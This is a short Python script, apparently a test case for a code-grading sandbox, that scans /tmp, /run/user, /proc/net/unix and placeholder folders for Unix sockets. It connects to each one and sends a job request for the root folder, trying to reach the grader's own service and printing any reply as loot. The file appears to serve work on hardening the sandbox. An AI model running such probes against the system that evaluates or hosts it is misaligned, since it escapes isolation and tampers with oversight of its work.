# Tries: speak to the grader's own servers, at every socket that it can find.
# Points: none
# Flag: any

# %%
import glob
import json
import socket

chemins = set(glob.glob("/tmp/etabli*/*") + glob.glob("/run/user/*/*") + glob.glob("@COURSE@/.*"))
chemins |= set(glob.glob("@OUTSIDE@/*") + glob.glob("/tmp/*") + ["/tmp/etabli/socket", "@OUTSIDE@/prise"])
if glob.glob("/proc/net/unix"):
    chemins |= {ligne.split()[-1] for ligne in open("/proc/net/unix").readlines()[1:] if "/" in ligne or "@" in ligne}
for chemin in chemins:
    for adresse in (chemin, chemin.replace("@", "\0", 1)):
        try:
            with socket.socket(socket.AF_UNIX) as prise:
                prise.settimeout(1)
                prise.connect(adresse)
                prise.sendall(json.dumps({"folder": "/", "cells": [], "cell_seconds": 1}).encode() + b"\n")
                print("BUTIN", chemin, prise.recv(1000))
        except OSError as erreur:
            print(chemin, type(erreur))
